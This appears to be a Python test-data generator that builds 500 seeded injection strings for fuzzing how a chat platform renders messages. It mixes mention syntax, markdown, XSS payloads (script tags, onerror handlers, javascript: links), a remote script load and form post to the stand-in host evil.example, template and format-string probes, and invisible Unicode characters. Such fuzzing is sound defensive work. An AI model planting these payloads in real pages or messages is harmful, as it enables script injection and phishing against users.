"""Five hundred things that somebody could write to make a platform do what the words do not say. Seeded."""

from __future__ import annotations

import random
from itertools import product

SEED, MANY = 2026, 500

EVIL = "evil.example"
MENTIONS = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!subteam^S0123ABCD|@ledelsen>",
    "<@U0123ABCD>",
    "<@U0123ABCD|anna>",
    "<#C0123ABCD|styring>",
    "@channel",
    "@here",
    "@everyone",
    "<at>Anna Holm</at>",
    "<!date^1392734382^{date}^https://evil.example/|nu>",
)
LINKS = (
    "<https://evil.example|Stem her>",
    "<https://evil.example/?a=1&amp;b=2>",
    "<mailto:anna@evil.example|skriv>",
    "[Stem her](https://evil.example)",
    "[Stem her][1]\n\n[1]: https://evil.example",
    "![billede](https://evil.example/a.png)",
    "<javascript:alert(1)|klik>",
    "[klik](javascript:alert(1))",
    "https://os2.eu@evil.example/",
    "//evil.example",
    "<tel:+4512345678|ring>",
)
MARKUP = (
    "*fed*",
    "_skrå_",
    "~streget~",
    "`kode`",
    "```\nkode\n```",
    "> citat",
    "# overskrift",
    "- punkt",
    "1. punkt",
    "| a | b |\n|---|---|",
    ":tada:",
    ":skull:",
    "&lt;!channel&gt;",
    "&amp;lt;",
    "\\*",
)
HTML = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><b onmouseover=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "<iframe src=https://evil.example></iframe>",
    "<a href=https://evil.example>klik</a>",
    "<style>*{display:none}</style>",
    "</textarea><h1>x</h1>",
    "</title><h1>x</h1>",
    "<!-- -->",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button>Stem</button></form>",
    "&#60;script&#62;",
)
BRACES = (
    "{ $title }",
    "{-term}",
    "{ button-for }",
    "{{ 7*7 }}",
    "{% raw %}",
    "{0}",
    "%(name)s",
    "%s%n",
    "${HOME}",
    "{ DATETIME($now) }",
    "#{7*7}",
    "}}{{",
)
# What nobody can see: direction, zero width, tags, fillers.
INVISIBLE = tuple(
    map(
        chr,
        (
            *range(0x200B, 0x2010),
            *range(0x202A, 0x202F),
            *range(0x2060, 0x2065),
            *range(0x2066, 0x206A),
            0x00AD,
            0x061C,
            0x115F,
            0x180E,
            0x2028,
            0x2029,
            0x3164,
            0xFEFF,
            0xFFA0,
            0xE0001,
            0xE0041,
        ),
    )
)
PLAIN = ("Ja", "Nej tak", "Forslag nr. 1", "æøå", "漢字", "🎉", "")
KINDS = {"mention": MENTIONS, "link": LINKS, "markup": MARKUP, "html": HTML, "braces": BRACES}


def strings() -> list[str]:
    """All of them, none twice: each alone, two together, and with what nobody can see in between."""
    dice = random.Random(SEED)
    every = [each for kind in KINDS.values() for each in kind]
    found = dict.fromkeys(every)
    found.update(dict.fromkeys(f"Ja{each}Nej" for each in INVISIBLE))
    found.update(dict.fromkeys(f"{one}{two}" for one, two in product(MENTIONS, ("\u202e", "\u200b"))))
    while len(found) < MANY:
        one, two = dice.choice(every), dice.choice(every)
        between = dice.choice((*INVISIBLE, " ", "\n", "", "\t"))
        found[f"{dice.choice(PLAIN)}{one}{between}{two}{dice.choice(PLAIN)}"] = None
    return list(found)
